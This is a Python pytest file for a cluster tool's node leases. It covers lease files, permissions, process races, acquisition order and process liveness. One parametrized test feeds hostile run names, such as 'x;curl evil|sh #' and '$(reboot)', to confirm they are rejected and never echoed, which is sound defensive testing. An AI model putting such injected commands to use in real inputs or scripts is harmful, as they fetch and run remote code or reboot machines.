"""The lease on a node, on real files and through real ansible-playbook; and what the run keeps of it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from functools import partial
from pathlib import Path

import pytest
from ansible_collections.clusterctl.cluster.plugins.module_utils import lease_file

from clustercheck.probe import busy
from clusterctl.cluster.directory import ClusterDirectory
from clusterctl.engine import lease as lease_module
from clusterctl.engine import lease_book
from clusterctl.engine.lease import Lease, Life, comes_from, from_record, lease_of, life, release_command
from clusterctl.engine.lease_protocol import (
    Acquire,
    LeaseAnswer,
    RecordHolders,
    Release,
    acquire_steps,
    run_steps,
)
from clusterctl.errors import ClusterctlError
from clusterctl.rollout.leases import refusal
from clusterctl.runs.store import RunStore

OURS = Lease("20260101T000000000-apply-aaaa", "n1", "ops", "here", "apply", "2026-01-01T00:00:00Z")
THEIRS = replace(OURS, run="20260101T000000000-apply-bbbb", nonce="n2", who="anna", where="there")
HOSTS = ("gpu01", "gpu02", "gpu03")

RACER = """
import json, sys, types
sys.path.insert(0, sys.argv[1])
from pathlib import Path
from ansible_collections.clusterctl.cluster.plugins.module_utils import lease_file
sys.stdin.readline()
print(lease_file.take(Path(sys.argv[2]), json.loads(sys.argv[3])) is None)
"""


@pytest.fixture
def node(tmp_path: Path) -> Path:
    """Where a node keeps its lease."""
    return tmp_path / "root" / ".clusterctl" / "lease.json"


def test_a_lease_is_taken_once_and_freed_by_its_own_name_alone(node: Path) -> None:
    ours, theirs = OURS.as_record(), THEIRS.as_record()
    assert lease_file.read(node) is None
    assert lease_file.take(node, ours) is None
    assert lease_file.take(node, ours) is None, "the first answer may have been lost"
    assert lease_file.take(node, theirs) == ours
    assert not lease_file.free(node, theirs)
    assert not lease_file.free(node, {**ours, "nonce": "another"})
    assert not lease_file.free(node, {})
    assert from_record(lease_file.read(node) or {}) == OURS
    assert lease_file.free(node, ours)
    assert lease_file.take(node, theirs) is None


def test_a_lease_is_roots_alone_and_leaves_nothing_beside_it(node: Path) -> None:
    node.parent.mkdir(parents=True, mode=0o755)
    (node.parent / "lease.json.new").write_text("a taker that died")
    lease_file.take(node, OURS.as_record())
    assert node.stat().st_mode & 0o777 == 0o600
    assert node.parent.stat().st_mode & 0o777 == 0o700
    assert [path.name for path in node.parent.iterdir()] == ["lease.json"]


@pytest.mark.parametrize("text", ["", "{", "[]", "null"])
def test_a_lease_that_cannot_be_read_holds_all_the_same(node: Path, text: str) -> None:
    node.parent.mkdir(parents=True)
    node.write_text(text)
    holder = lease_file.take(node, OURS.as_record())
    assert holder is not None
    assert from_record(holder).run == ""
    assert not lease_file.free(node, OURS.as_record())


def test_of_many_processes_one_takes_the_node(node: Path, repository: Path) -> None:
    for _ in range(5):
        racers = [
            subprocess.Popen(
                [sys.executable, "-c", RACER, repository, node,
                 json.dumps(replace(OURS, nonce=str(number)).as_record())],
                stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
            )
            for number in range(6)
        ]  # fmt: skip
        for racer in racers:
            assert racer.stdin is not None
            racer.stdin.write("\n")
            racer.stdin.flush()
        said = [racer.communicate(timeout=60)[0].strip() for racer in racers]
        assert sorted(said) == ["False"] * 5 + ["True"]
        assert lease_file.free(node, {"run": OURS.run, "nonce": str(said.index("True"))})


def test_nodes_are_taken_in_one_order_whatever_the_order_they_were_named_in() -> None:
    steps = acquire_steps(OURS, ("gpu03", "gpu01", "gpu02"))
    step = next(steps)
    while isinstance(step, RecordHolders):
        step = steps.send({})
    assert isinstance(step, Acquire)
    assert step.batches == (("gpu01",), ("gpu02", "gpu03"))


def test_an_interruption_gives_back_what_was_asked_before_it_is_heard() -> None:
    done = []

    def do(step):
        done.append(step)
        if isinstance(step, Acquire):
            raise KeyboardInterrupt
        return {host: LeaseAnswer(freed=True) for host in step.hosts}

    with pytest.raises(KeyboardInterrupt):
        run_steps(acquire_steps(OURS, HOSTS), do)
    assert [type(step) for step in done] == [RecordHolders, Acquire, Release, RecordHolders]
    assert done[2].hosts == HOSTS
    assert done[3].hosts == ()


def test_the_book_keeps_what_may_be_held_and_a_copy_of_it_is_nobodys(tmp_path: Path) -> None:
    directory, copy = ClusterDirectory(tmp_path / "a"), ClusterDirectory(tmp_path / "b")
    for each in (directory, copy):
        each.ensure_state()
    assert lease_book.entries(directory) == []
    run = RunStore(directory).create("apply", [])
    first, second = lease_of(run, directory), replace(lease_of(run, directory), run="another")
    lease_book.note(directory, first, HOSTS)
    lease_book.note(directory, second, ["gpu01"])
    lease_book.note(directory, first, ["gpu02"])
    open_ = {entry.lease.run: entry.hosts for entry in lease_book.entries(directory)}
    assert open_ == {first.run: ("gpu02",), "another": ("gpu01",)}
    (copy.state / lease_book.FILE).write_text((directory.state / lease_book.FILE).read_text())
    assert lease_book.entries(copy) == [], "the original is still at work, for all that the copy knows"
    lease_book.note(directory, first, [])
    lease_book.note(directory, second, [])
    assert lease_book.entries(directory) == []


def test_a_state_that_cannot_be_read_is_not_one_without_leases(tmp_path: Path) -> None:
    (state := ClusterDirectory(tmp_path).state).symlink_to(state.name)
    with pytest.raises(ClusterctlError, match=r"state cannot be used") as caught:
        lease_book.entries(ClusterDirectory(tmp_path))
    assert caught.value.where == str(state / lease_book.FILE)


@pytest.mark.parametrize("text", ["", "{}", "[1]", '[{"lease": {}}]', "null"])
def test_a_book_that_cannot_be_read_is_empty(tmp_path: Path, text: str) -> None:
    directory = ClusterDirectory(tmp_path)
    directory.ensure_state()
    (directory.state / lease_book.FILE).write_text(text)
    assert lease_book.entries(directory) == []


@pytest.fixture
def child() -> Iterator[subprocess.Popen[bytes]]:
    """A process that lives until it is told to go."""
    with subprocess.Popen(["sleep", "300"]) as process:
        yield process
        process.kill()


def test_a_run_lives_as_long_as_its_very_process(tmp_path: Path, child: subprocess.Popen[bytes]) -> None:
    directory = ClusterDirectory(tmp_path)
    lease = lease_of(RunStore(directory).create("apply", []), directory)
    assert (lease.pid, lease.where) == (os.getpid(), os.uname().nodename)
    assert life(lease) is Life.HERE
    assert comes_from(lease, directory)
    assert life(replace(lease, pid=child.pid)) is Life.ENDED, "another process has its number now"
    assert life(replace(lease, born="another boot/1")) is Life.ENDED
    assert life(replace(lease, pid=0)) is Life.ENDED
    assert not comes_from(replace(lease, machine="another"), directory)
    assert lease_of(RunStore(directory).create("apply", []), directory).nonce != lease.nonce


def test_a_process_that_cannot_be_seen_is_not_taken_for_dead(
    tmp_path: Path, child: subprocess.Popen[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    """/proc with hidepid, another container, or none at all: what the kernel says of a pid of ours counts."""
    directory = ClusterDirectory(tmp_path)
    ours = lease_of(RunStore(directory).create("apply", []), directory)
    alive = replace(ours, pid=child.pid, born=lease_module._born(child.pid))
    boot = alive.born.partition("/")[0]
    with subprocess.Popen(["true"]) as ended:
        pass
    gone = replace(ours, pid=ended.pid, born=f"{boot}/1")
    assert (life(alive), life(gone)) == (Life.HERE, Life.ENDED)
    assert life(replace(gone, space="pid:[1]")) is Life.UNSEEN, "a pid of another container"
    assert life(replace(gone, space="")) is Life.UNSEEN
    assert life(replace(gone, born="")) is Life.ENDED
    monkeypatch.setattr(lease_module, "_born", lambda _pid: "")
    assert (life(alive), life(gone)) == (Life.UNSEEN, Life.ENDED)
    assert life(replace(alive, born="")) is Life.UNSEEN
    assert life(replace(alive, born="", where="elsewhere")) is Life.ENDED

    def refuses(_pid: int, _signal: int) -> None:
        raise PermissionError

    monkeypatch.setattr(os, "kill", refuses)
    assert life(gone) is Life.UNSEEN


@pytest.mark.parametrize("pid", [-1, 0, 2**40, "1"])
def test_a_pid_that_is_none_names_nobody(pid: object) -> None:
    assert from_record({"pid": pid}).pid == 0


@pytest.mark.parametrize("run", ["x;curl evil|sh #", "$(reboot)", "-f", "", "a" * 81, ["run"]])
def test_a_node_names_no_run_that_a_shell_would_run(run: object) -> None:
    lease = from_record({**OURS.as_record(), "run": run})
    assert (lease.run, lease.holder) == ("", "a lease that cannot be read")
    told = refusal({"gpu01": lease})
    assert "curl" not in str(vars(told))
    assert told.hint == "Check that no run changes the host, then remove /root/.clusterctl/lease.json there."
    assert release_command("a b;c") == "clusterctl leases release 'a b;c'"


def test_the_name_of_a_run_of_two_words_is_read(tmp_path: Path) -> None:
    (tmp_path / "hosts.yml").write_text("all: {}\n")
    run = RunStore(ClusterDirectory(tmp_path)).create("registry upgrade", [])
    assert from_record({**OURS.as_record(), "run": run.id}).run == run.id
    assert release_command(run.id) == f"clusterctl leases release '{run.id}'"


def test_validation_sees_whose_apply_it_is(node: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert busy.LEASE == lease_file.LEASE
    lease_file.take(node, THEIRS.as_record())
    monkeypatch.setattr(busy, "lease", partial(busy.lease, str(node)))
    found = busy.busy(5.0)
    assert f"held by {THEIRS.holder}" in found["reasons"]
    assert found["lease"]["who"] == "anna"
    assert f"held by {THEIRS.holder}" not in busy.busy(5.0, [THEIRS.run])["reasons"]
    node.write_text("{ torn")
    assert [reason for reason in busy.busy(5.0)["reasons"] if "unknown" in reason]
